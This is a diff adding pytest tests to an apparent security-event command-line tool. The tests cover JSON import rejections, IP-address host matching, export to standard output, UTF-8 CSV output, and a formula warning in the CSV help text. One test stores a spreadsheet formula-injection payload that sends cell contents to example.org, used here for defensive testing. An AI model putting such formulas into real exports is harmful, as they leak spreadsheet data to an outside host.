@@ -87,6 +87,17 @@ def test_an_import_says_what_became_of_the_events_and_does_nothing_twice(cli: Cl
     assert cli("events", "count", *STORE, "--json").json["count"] == 2
 
 
+@pytest.mark.parametrize("text", ["[\n%s\n,\n%s\n]", "%s\n%s"])
+def test_what_is_rejected_of_an_array_or_of_indented_objects_is_an_event_and_no_line(
+    cli: Cli, tmp_path: Path, text: str
+) -> None:
+    (tmp_path / "a.json").write_text(
+        text % (json.dumps(event(1), indent=1), json.dumps({"no": "ID"}, indent=1))
+    )
+
+    assert cli("events", "import", "a.json", *STORE).err == "note: a.json, event 2: rejected: no usable ID\n"
+
+
 def test_a_project_has_its_events_in_its_memory(cli: Cli, tmp_path: Path) -> None:
     cli("init", "shop")
     (tmp_path / "a.json").write_text(json.dumps([event(1), event(2)]))
@@ -299,6 +310,16 @@ def test_what_is_wrong_with_an_event_is_shown(cli: Cli, store: Callable[..., Any
     assert found(cli, "--inspection-error", "__ANY__") == ["e11"]
 
 
+def test_an_event_with_an_address_in_place_of_a_host_name_is_found_by_it(
+    cli: Cli, store: Callable[..., Any]
+) -> None:
+    store(event(11, Source=[{"Hostname": ["10.1.2.3"]}]), event(12, Target=[{"Hostname": ["2001:db8::7"]}]))
+
+    assert found(cli, "--source", "10.1.2.0/24") == ["e11"]
+    assert found(cli, "--host", "2001:db8::7") == ["e12"]
+    assert found(cli, "--inspection-error", "Source.Hostname: an address, not the name of a host") == ["e11"]
+
+
 def test_an_import_says_that_what_it_stored_has_something_wrong_in_it(cli: Cli, tmp_path: Path) -> None:
     rows = "".join(f"{day}.11.2026,10.0.0.{day},{port}\n" for day, port in ((20, 22), (21, 22), (22, 70_000)))
     (tmp_path / "a.csv").write_text("when,who,port\n" + rows)
@@ -337,6 +358,29 @@ def test_an_export_can_be_imported_again(cli: Cli, tmp_path: Path) -> None:
     assert [json.loads(line) for line in lines] == [event(number) for number in range(1, 11)]
     assert piped == lines[:3]
     assert cli("events", "import", "out.jsonl", "--store", "copy.db", "--json").json["new"] == 10
+
+
+@pytest.mark.usefixtures("store")
+def test_a_dash_is_standard_output_for_an_export(cli: Cli, tmp_path: Path) -> None:
+    lines = cli("events", "export", *STORE, "-o", "-", "--limit", "2").out.splitlines()
+
+    assert [json.loads(line)["ID"] for line in lines] == ["e1", "e2"]
+    assert not (tmp_path / "-").exists()
+
+
+def test_csv_has_texts_as_they_are_and_the_help_warns_of_formulas(
+    cli: Cli, store: Callable[..., Any]
+) -> None:
+    formula = '=HYPERLINK("https://example.org/?"&A1)'
+    store(event(11, Description=formula))
+
+    exported = cli("events", "export", *STORE, "--format", "csv", "--id", "e11").out
+    (row,) = csv.DictReader(io.StringIO(exported))
+
+    assert row["description"] == formula
+    assert "a spreadsheet takes one that begins with =" in " ".join(
+        cli("events", "export", "--help").out.lower().split()
+    )
 
 
 @pytest.mark.usefixtures("store")
@@ -428,6 +472,19 @@ def test_events_are_counted_by_value(cli: Cli) -> None:
         "(others),0",
         "(none),0",
     ]
+
+
+@pytest.mark.parametrize("command", [("search",), ("top",), ("timeline", "--by", "category")])
+def test_csv_is_utf_8_whatever_the_terminal_can_show(
+    cli: Cli, store: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, command: tuple[str, ...]
+) -> None:
+    store(event(11, Category=["Größe"]))
+    written = io.BytesIO()
+    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(written, encoding="ascii"))
+
+    cli("events", *command, *STORE, "--csv", "--id", "e11")
+
+    assert "Größe" in written.getvalue().decode()
 
 
 @pytest.mark.usefixtures("store")
